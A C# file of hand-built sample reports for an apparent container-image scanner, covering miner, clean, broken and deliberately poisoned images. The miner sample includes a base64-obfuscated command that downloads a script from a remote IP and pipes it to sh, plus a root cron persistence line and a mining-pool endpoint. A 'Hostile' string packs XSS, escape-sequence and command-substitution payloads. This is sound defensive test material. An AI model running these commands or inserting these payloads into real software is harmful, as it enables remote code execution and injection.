using Wellguard.Artifacts;
using Wellguard.AttackTrees;
using Wellguard.Inventories;
using Wellguard.Signals;
using Wellguard.Verdicts;

namespace Wellguard.Reports;

/// <summary>Reports made by hand: what the pipeline would give for a miner image, a clean image, a broken one and a hostile one.</summary>
internal static class Samples
{
    public static ReportContext Context { get; } = new("0.1.0") { Rule = id => Rules!.FirstOrDefault(rule => rule.Id == id) };

    public static IReadOnlyList<Rule> Rules { get; } =
    [
        new("content/start-downloads-and-runs", SignalClass.Config, "The container downloads code when it starts and runs it", Severity.Critical, Confidence.High)
        {
            Attack = ["T1105", "T1059.004"], Stage = Stage.Download,
            Why = "What runs is decided by a server on the internet, not by the image that was reviewed.",
            Fix = "Do not run the image. Build it again without this line, with the file inside and its digest checked.",
            Benign = "The file is compared with a digest that the image holds.",
        },
        new("content/cron-entry", SignalClass.Persistence, "A cron entry starts a program in a temporary folder", Severity.High, Confidence.High)
        {
            Attack = ["T1053.003"], Stage = Stage.Persistence, Why = "It survives the end of the first process.", Fix = "Remove the entry and the program.",
        },
        new("content/secret-in-history", SignalClass.Secret, "A secret is in the image's history", Severity.Medium, Confidence.High)
        {
            Attack = ["T1552"], Stage = Stage.Credential, Why = "Everyone who can pull the image can read it.", Fix = "Revoke it, then use a build secret.",
        },
        new("content/posture-runs-as-root", SignalClass.Config, "The container runs as root", Severity.Low, Confidence.High)
        {
            Stage = Stage.Escape, Why = "An escape starts with more rights.", Fix = "Set USER.",
        },
    ];

    private static readonly LayerReference Copy = new(2, "sha256:" + new string('c', 64), "COPY start.sh /usr/local/bin/start.sh # buildkit", true);

    public static Report Miner { get; } = Judged(new Report(
        new(ArtifactKind.Image, "registry.example.org/team/app:1.4") { Digest = "sha256:" + new string('a', 64), Platform = "linux/amd64", Source = "oci:build/app:1.4" },
        Completeness.Of([]),
        null!)
    {
        Signals =
        [
            new("content/start-downloads-and-runs", SignalClass.Config, "The container downloads code when it starts and runs it", Severity.Critical, Confidence.High, new("usr/local/bin/start.sh", 4, 1) { Layer = Copy })
            {
                Id = "s1", Attack = ["T1105", "T1059.004"], Trigger = "container start: ENTRYPOINT /usr/local/bin/start.sh", Node = "n2",
                Evidence =
                [
                    new(EvidenceKind.Source, "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBzaA== | base64 -d | sh"),
                    new(EvidenceKind.Decoded, "curl -s http://198.51.100.7/x.sh | sh"),
                ],
            },
            new("content/cron-entry", SignalClass.Persistence, "A cron entry starts a program in a temporary folder", Severity.High, Confidence.High, new("etc/cron.d/sync", 1) { Layer = Copy with { Index = 3, CreatedBy = "/bin/sh -c echo '* * * * * root /tmp/.x/sync' > /etc/cron.d/sync" } })
            {
                Id = "s2", Attack = ["T1053.003"], Trigger = "cron, every minute, as root", Node = "n5",
                Evidence = [new(EvidenceKind.Source, "* * * * * root /tmp/.x/sync")],
            },
            new("content/secret-in-history", SignalClass.Secret, "A secret is in the image's history", Severity.Medium, Confidence.High, new("config:History[3]"))
            {
                Id = "s3", Attack = ["T1552"], Evidence = [new(EvidenceKind.Source, "ARG NPM_TOKEN=npm_****************")],
            },
            new("content/posture-runs-as-root", SignalClass.Config, "The container runs as root", Severity.Low, Confidence.High, new("config:User")) { Id = "s4" },
        ],
        Tree = new(
            [
                new("n0", NodeKind.Artifact, "registry.example.org/team/app:1.4", Stage.Entry) { Score = 92 },
                new("n1", NodeKind.Process, "/usr/local/bin/start.sh", Stage.Execution) { Attack = ["T1204.003"], Score = 75 },
                new("n2", NodeKind.Endpoint, "http://198.51.100.7/x.sh", Stage.Download) { Attack = ["T1105"], Score = 75 },
                new("n3", NodeKind.Process, "sh (text from the network)", Stage.Execution) { Attack = ["T1059.004"], Score = 75 },
                new("n4", NodeKind.File, "/tmp/.x/sync", Stage.Persistence) { Attack = ["T1036"], Score = 46 },
                new("n5", NodeKind.File, "/etc/cron.d/sync", Stage.Persistence) { Attack = ["T1053.003"], Score = 46 },
                new("n6", NodeKind.Endpoint, "stratum+tcp://pool.example.net:3333", Stage.Impact) { Attack = ["T1496.001"], Score = 75 },
            ],
            [
                new("n0", "n1", Verb.Runs), new("n1", "n2", Verb.Downloads), new("n2", "n3", Verb.Executes), new("n3", "n6", Verb.Connects),
                new("n0", "n5", Verb.Creates), new("n5", "n4", Verb.Executes), new("n3", "n4", Verb.Writes),
            ]),
        Inventory = new(
        [
            new("pkg:deb/debian/bash@5.2.15-2?arch=amd64&distro=debian-12", "var/lib/dpkg/status", ComponentState.Installed) { Layer = 0 },
            new("pkg:npm/%40team/api@1.2.3", "srv/app/node_modules/@team/api/package.json", ComponentState.Installed) { Layer = 2 },
            new("pkg:npm/%40team/api@1.2.3", "srv/old/node_modules/@team/api/package.json", ComponentState.Installed) { Layer = 1 },
            new("pkg:pypi/requests@2.28.1", "usr/lib/python3/dist-packages/requests-2.28.1.egg-info", ComponentState.Installed) { Layer = 0, Owner = "pkg:deb/debian/python3-requests@2.28.1" },
            new("pkg:npm/left-pad@1.3.0", "srv/app/package-lock.json", ComponentState.Declared) { Layer = 2 },
        ]),
        Indicators = [new("url", "http://198.51.100.7/x.sh"), new("ip", "198.51.100.7"), new("domain", "pool.example.net"), new("path", "/tmp/.x/sync")],
        Actions =
        [
            new("block", "registry.example.org/team/app@sha256:" + new string('a', 64), "it downloads and runs code when it starts"),
            new("rotate", "NPM_TOKEN", "it is readable in the image's history"),
        ],
        Databases = [new("indicators", "sha256:" + new string('d', 64), new DateTimeOffset(2026, 11, 1, 0, 0, 0, TimeSpan.Zero))],
        Timings = new(420, new Dictionary<string, long> { ["open"] = 4, ["read"] = 390, ["analyse"] = 26 }),
    });

    public static Report Clean { get; } = Judged(new Report(
        new(ArtifactKind.Image, "debian:12") { Digest = "sha256:" + new string('b', 64), Platform = "linux/amd64", Source = "oci:debian" },
        Completeness.Of([]),
        null!)
    {
        Signals = [new("content/posture-runs-as-root", SignalClass.Config, "The container runs as root", Severity.Low, Confidence.High, new("config:User")) { Id = "s1" }],
        Inventory = new([new("pkg:deb/debian/bash@5.2.15-2?arch=amd64&distro=debian-12", "var/lib/dpkg/status", ComponentState.Installed) { Layer = 0 }]),
        Timings = new(61, new Dictionary<string, long> { ["read"] = 55 }),
    });

    public static Report Truncated { get; } = Judged(new Report(
        new(ArtifactKind.Image, "broken:1") { Source = "docker-archive:broken.tar" },
        Completeness.Of([new("read", "layer 3 (sha256:ffff)", "the gzip stream ends early, after 1,048,576 bytes"), new("open", "layer 4", "the blob is missing")]),
        null!));

    public static Report Unreadable { get; } = Judged(new Report(
        new(ArtifactKind.Image, "registry.example.org/secret:1"), Completeness.Failed(new("open", "registry.example.org/secret:1", "401: the registry wants a password; run docker login registry.example.org")), null!));

    public static Report Waived { get; } = Miner with
    {
        Artifact = Miner.Artifact with { OtherPlatforms = ["linux/arm64"] },
        Without = ["known-bad", "content/deletes-itself"],
        Verdict = Judge.Decide(
            PolicyFile.Read("policy.yml", """
                name: team
                rules:
                  - decision: block
                    class: persistence
                    reason: nothing of ours uses cron
                waivers:
                  - rule: content/start-*
                    scope: { path: "/usr/local/bin/*" }
                    reason: the test double of the downloader
                    owner: team-a
                    expires: 2026-12-31
                  - class: secret
                    scope: { artifact: "*" }
                    reason: rotated
                    owner: team-b
                    expires: 2026-10-31
                """),
            Miner.Artifact, Miner.Completeness, Miner.Signals, StageOf, new DateOnly(2026, 11, 23)),
    };

    /// <summary>Everything that an attacker could put into a name, path, line or label.</summary>
    public const string Hostile = "\u001b[2J\u001b]0;owned\u0007\r\nclean\u202Etxt.exe\u200B\u2066\0`\"';|<script>alert(1)</script>--> %% ```\n~~~ ]] }} \\N [a](http://evil.example) @all #1 &amp; \ud800 </details> $(x) \u009b31m end";

    public static Report Poisoned { get; } = Judged(new Report(
        new(ArtifactKind.Image, Hostile) { Version = Hostile, Digest = Hostile, Source = Hostile, Purl = Hostile, Platform = Hostile },
        Completeness.Of([new(Hostile, Hostile, Hostile)]),
        null!)
    {
        Signals =
        [
            new(Hostile, SignalClass.File, Hostile, Severity.Critical, Confidence.High, new(Hostile, 1, 1) { Layer = new(0, Hostile, Hostile, false), Package = Hostile })
            {
                Id = "s1", Attack = [Hostile], Trigger = Hostile, Node = Hostile,
                Evidence = [new(EvidenceKind.Source, Hostile), new(EvidenceKind.Decoded, string.Concat(Enumerable.Repeat(Hostile + "\n", 400)))],
            },
            new("content/x", SignalClass.File, Hostile, Severity.Medium, Confidence.High, new("../../" + Hostile)) { Id = "s2", State = SignalState.Refuted },
        ],
        Tree = new(
            [new("n0", NodeKind.Artifact, Hostile, Stage.Entry), new(Hostile, NodeKind.Process, Hostile, Stage.Execution) { Attack = [Hostile], Score = 75 }, new("n2", NodeKind.File, new string('x', 5000), Stage.Impact)],
            [new("n0", Hostile, Verb.Runs), new(Hostile, "n2", Verb.Writes), new("n2", Hostile, Verb.Executes), new("n0", "missing", Verb.Runs)]),
        Inventory = new([new(Hostile, Hostile, ComponentState.Installed) { Layer = 0, Owner = Hostile }, new("pkg:npm/a@1", Hostile, ComponentState.Declared)]),
        Indicators = [new(Hostile, Hostile)],
        Actions = [new(Hostile, Hostile, Hostile)],
        Dropped = [new(Hostile, Hostile, 1)],
        Network = [new(Hostile, Hostile) { What = Hostile, Sha256 = new string('e', 64), AtMs = 1, Bytes = 1 }],
        Changes = [new(Hostile, Hostile)],
        Databases = [new(Hostile, Hostile, null)],
    });

    public static Stage StageOf(string id) => Rules.FirstOrDefault(rule => rule.Id == id)?.Stage ?? Stage.Execution;

    private static Report Judged(Report report) =>
        report with { Verdict = Judge.Decide(Policy.Default, report.Artifact, report.Completeness, report.Signals, StageOf, new DateOnly(2026, 11, 23)) };
}
